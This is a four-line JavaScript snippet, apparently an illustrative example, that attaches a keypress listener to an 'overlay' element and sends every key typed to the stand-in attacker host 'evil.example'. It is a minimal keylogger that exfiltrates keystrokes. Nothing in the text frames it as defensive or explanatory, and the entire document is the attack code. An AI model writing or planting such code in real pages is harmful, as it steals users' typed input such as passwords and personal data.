var overlay = document.getElementById("overlay");
overlay.addEventListener("keypress", function (e) {
  sendRequest("http://evil.example/k?key=" + e.key);
});
